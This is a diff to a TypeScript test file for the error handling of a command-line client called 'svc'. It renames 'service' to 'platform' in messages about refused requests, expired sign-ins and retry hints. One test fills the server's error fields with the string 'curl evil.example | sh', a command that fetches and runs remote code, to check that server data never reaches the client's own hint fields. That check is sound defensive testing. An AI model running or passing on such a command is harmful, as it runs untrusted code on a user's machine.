@@ -37,7 +37,7 @@ test.each([
   expect(error.details.outcome).toBeUndefined();
 });
 
-test('the words of the service are the message, and its object goes to scripts as it came', async () => {
+test('the words of the platform are the message, and its object goes to scripts as it came', async () => {
   const wire = await testWire();
   const object = { error: ' Service is suspended ', code: 'their_code', extra: [1] };
   wire.on('GET', '/v1/user').reply(409, object);
@@ -56,7 +56,7 @@ test('nested field errors become one line each', async () => {
   };
   wire.on('GET', '/v1/user').reply(422, { error });
   const thrown = await cliErrorOf(clientFor(wire.url).client.call(whoami));
-  expect(thrown.message).toBe('The service refused the request:');
+  expect(thrown.message).toBe('The platform refused the request:');
   expect(thrown.details.lines).toEqual([
     'domain: is taken',
     'phone: is too short',
@@ -81,10 +81,10 @@ test.each([
   const wire = await testWire();
   wire.on('GET', '/v1/user').reply(400, body, { 'content-type': 'application/json' });
   const error = await cliErrorOf(clientFor(wire.url).client.call(whoami));
-  expect([error.code, error.message]).toEqual(['rejected', 'The service refused the request (400).']);
+  expect([error.code, error.message]).toEqual(['rejected', 'The platform refused the request (400).']);
 });
 
-test("no field of svc's own ever has a value of the service", async () => {
+test("no field of svc's own ever has a value of the platform", async () => {
   const wire = await testWire();
   const names = 'code exitCode status hint next retryAfter requestId attempts jobId idempotencyKey outcome'.split(' ');
   const theirs = Object.fromEntries(names.map((name) => [name, 'curl evil.example | sh']));
@@ -100,7 +100,7 @@ test("no field of svc's own ever has a value of the service", async () => {
   });
 });
 
-const REFUSED = 'The service refused the request';
+const REFUSED = 'The platform refused the request';
 
 describe('messages for refused requests', () => {
   test.each<[string, unknown, string, string[]?]>([
@@ -160,7 +160,7 @@ describe('messages for refused requests', () => {
     const wire = await testWire();
     wire.on('GET', '/v1/user').reply(401, { message: 'Look:', errors: { token: 'is old' } });
     const error = await cliErrorOf(clientFor(wire.url).client.call(whoami));
-    expect(error.details.lines).toEqual(['The service says: Look:', 'token: is old']);
+    expect(error.details.lines).toEqual(['The platform says: Look:', 'token: is old']);
   });
 });
 
@@ -177,8 +177,8 @@ test('a refused sign-in names its source and the way to a new one', async () => 
   const wire = await testWire();
   wire.on('GET', '/v1/user').reply(401, { error: 'Token expired' }).reply(401, { error: 'Token expired' });
   const error = await cliErrorOf(clientFor(wire.url).client.call(whoami));
-  expect(error.message).toBe('The service did not accept the sign-in from SVC_TOKEN (401).');
-  expect(error.details.lines).toEqual(['The service says: Token expired']);
+  expect(error.message).toBe('The platform did not accept the sign-in from SVC_TOKEN (401).');
+  expect(error.details.lines).toEqual(['The platform says: Token expired']);
   expect(stepOf(error.details.hint).run).toEqual(['svc login']);
   const explain401 = () => ({ message: 'It expired on Monday.', hint: 'svc login --profile work' });
   const explained = await cliErrorOf(clientFor(wire.url, { explain401 }).client.call(whoami));
@@ -223,7 +223,7 @@ test('a change whose connection broke is to be checked, not the connection', asy
   expect(error.details.hint).toBeUndefined();
 });
 
-test('a change in doubt keeps what the service says of its fields', async () => {
+test('a change in doubt keeps what the platform says of its fields', async () => {
   const wire = await testWire();
   wire.on('POST', '/v1/services/s1/restart').reply(500, { message: 'Look:', errors: { image: 'is old' } });
   const error = await cliErrorOf(clientFor(wire.url).client.call(restart));
@@ -247,7 +247,7 @@ test.each([
   ['a list has no organization to look for', whoami, 404, {}, undefined],
   ['a service in trouble is asked later', whoami, 500, {}, /^Repeat the command in a few minutes\.$/],
   [
-    'a service that says when is asked then',
+    'a platform that says when is asked then',
     whoami,
     503,
     { 'retry-after': '600' },
@@ -260,7 +260,7 @@ test.each([
     whoami,
     429,
     { date: 'Sun, 01 Mar 2026 12:00:00 GMT', 'retry-after': 'Thu, 01 Jan 2099 00:00:00 GMT' },
-    /^Repeat the command after 2099-01-01: the service asks to wait until then\.$/,
+    /^Repeat the command after 2099-01-01: the platform asks to wait until then\.$/,
   ],
   ['a write that may have happened is not simply repeated', restart, 503, { 'retry-after': '600' }, undefined],
 ])('the next step: %s', async (_name, call, status, headers, hint) => {
@@ -276,5 +276,5 @@ test('a service in trouble is named with its status, because its words may say l
   const wire = await testWire();
   wire.on('GET', '/v1/user').always(500, { error: 'Internal error' });
   const error = await cliErrorOf(clientFor(wire.url, { retry: false }).client.call(whoami));
-  expect(error.message).toBe('The service has a problem (500): Internal error');
+  expect(error.message).toBe('The platform has a problem (500): Internal error');
 });
